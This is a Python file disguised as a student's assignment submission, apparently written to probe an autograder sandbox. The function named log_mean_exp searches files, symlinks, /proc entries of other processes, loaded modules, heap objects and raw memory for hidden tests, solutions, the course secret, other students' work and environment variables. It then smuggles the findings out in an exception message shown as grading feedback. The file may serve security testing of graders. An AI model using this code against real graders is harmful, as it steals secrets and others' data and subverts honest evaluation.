"""Looks for tests, solutions, other students, the course's secret and the grader's environment by every path it knows.

The exception's message is how a submission would carry its loot home: a student reads it in the feedback.
"""

import ctypes
import gc
import importlib
import linecache
import mmap
import os
import re
import sys
from pathlib import Path

import numpy
import torch

ROOT, OTHER, OUTPUT = "@ROOT@", "@OTHER@", "@OUTPUT@"
SECRETS = [
    f"{ROOT}/autograder/hidden_tests/vae_ddpm_cfg/q1_vae.py",
    f"{ROOT}/autograder/misconceptions/vae_ddpm_cfg/q1_vae.py",
    f"{ROOT}/autograder/course.secret",
    f"{ROOT}/solutions/vae_ddpm_cfg/q1_vae.py",
    f"{ROOT}/autograder/grading/grade.py",
    f"{ROOT}/.git/HEAD",
    f"{OTHER}/q1_vae.py",
    OUTPUT,
    "/etc/passwd",
    "/proc/self/environ",
    "/proc/self/mem",
    "/proc/self/maps",
    "/proc/self/mountinfo",
]
SIGNS = re.compile(rb"canary-[0-9a-f]{16}|BEGIN SOLU[T]ION|self\.as[s]ertClose\(|de[f] law\(")


def with_open(path):
    return Path(path).read_bytes()


def with_numpy(path):
    return numpy.fromfile(path, dtype=numpy.uint8, count=64).tobytes()


def with_map(path):
    with open(path, "rb") as file, mmap.mmap(file.fileno(), 0, access=mmap.ACCESS_READ) as view:
        return view[:64]


def with_libc(path):
    handle = ctypes.CDLL(None).open(path.encode(), 0)
    return os.read(handle, 64) if handle >= 0 else b""


def by_symlink(path):
    os.symlink(path, "link")
    try:
        return Path("link").read_bytes()
    finally:
        os.unlink("link")


def by_hard_link(path):
    os.link(path, "link")
    try:
        return Path("link").read_bytes()
    finally:
        os.unlink("link")


def by_handle(path):
    handle = os.open(path, os.O_PATH)
    return Path(f"/proc/self/fd/{handle}").read_bytes()


def by_copy(path):
    source, target = os.open(path, os.O_RDONLY), os.open("copy", os.O_CREAT | os.O_WRONLY)
    return os.sendfile(target, source, 0, 64)


def by_line_cache(path):
    linecache.clearcache()
    return "".join(linecache.getlines(path)).encode()


def by_folder(path):
    return os.listdir(os.path.dirname(path))


def by_climbing(path):
    return Path(*[".."] * 20, *Path(path).parts[1:]).read_bytes()


def files():
    ways = (with_open, with_numpy, with_map, with_libc, by_symlink, by_hard_link, by_handle, by_copy, by_line_cache)
    for path in SECRETS:
        for way in (*ways, by_folder, by_climbing):
            try:
                if way(path):
                    yield f"{way.__name__}({path})"
            except (OSError, ValueError):
                pass


def processes():
    """The supervisor is the parent; the grader, its parent; both by number and by name of their files."""
    for process in (os.getppid(), *range(max(1, os.getppid() - 40), os.getppid() + 40), 1):
        if process == os.getpid():
            continue
        for name in ("mem", "environ", "maps", "stack", "cmdline", "cwd/", "root/", "fd/", "fd/0", "fd/3", "task/"):
            path = f"/proc/{process}/{name}"
            try:
                if name.endswith("/"):
                    found = os.listdir(path)
                else:
                    with open(path, "rb") as file:
                        found = name == "mem" or file.read(10)
                if found:
                    yield path
            except OSError:
                pass


def modules():
    for name in (
        "autograder.hidden_tests.vae_ddpm_cfg.q1_vae",
        "autograder.misconceptions.vae_ddpm_cfg.q1_vae",
        "hidden_vae_ddpm_cfg_q1_vae",
        "solutions.vae_ddpm_cfg.q1_vae",
    ):
        for path in ([], [ROOT, f"{ROOT}/solutions", f"{ROOT}/autograder"]):
            sys.path[:0] = path
            try:
                importlib.import_module(name)
            except (ImportError, OSError):
                pass
            finally:
                del sys.path[: len(path)]
    for name, module in sys.modules.items():
        if re.search("hidden_|misconcept|solution", name) and getattr(module, "__file__", None):
            yield name


def stack_and_heap_objects():
    frame = sys._getframe()
    while frame:
        yield from (value for value in frame.f_locals.values())
        yield frame.f_code.co_consts
        frame = frame.f_back
    yield from gc.get_objects()


def objects():
    for thing in stack_and_heap_objects():
        if type(thing) in (dict, list):
            for text in list(thing.values() if type(thing) is dict else thing):
                data = text.encode(errors="replace") if type(text) is str else text
                if type(data) is bytes and (found := SIGNS.search(data)):
                    yield f"object: {found[0]!r}"


def memory():
    """Every readable page near Python's and libc's heap and on the first stack; the kernel says which can be read."""
    libc = ctypes.CDLL(None)
    arguments = ctypes.c_void_p.in_dll(libc, "program_invocation_name").value
    libc.malloc.restype = ctypes.c_void_p
    reader, writer = os.pipe()
    for middle in (arguments, id(object()), libc.malloc(64), id(bytearray(10**6))):
        for page in range((middle - (1 << 25)) & ~4095, middle + (1 << 25), 4096):
            readable = page > 0 and libc.write(writer, ctypes.c_void_p(page), 4096) == 4096
            if readable and (found := SIGNS.search(os.read(reader, 4096))):
                yield f"memory: {found[0]!r}"


def log_mean_exp(y):
    loot = []
    for search in (files, processes, modules, objects, memory):
        try:
            loot += search()
        except Exception as error:
            loot.append(f"{search.__name__} failed: {error!r}")
    loot += [f"{name} in os.environ" for name in os.environ if "CANARY" in name]
    raise RuntimeError(f"LOOT {len(loot)} {sorted(set(loot))} {torch.is_tensor(y)}")
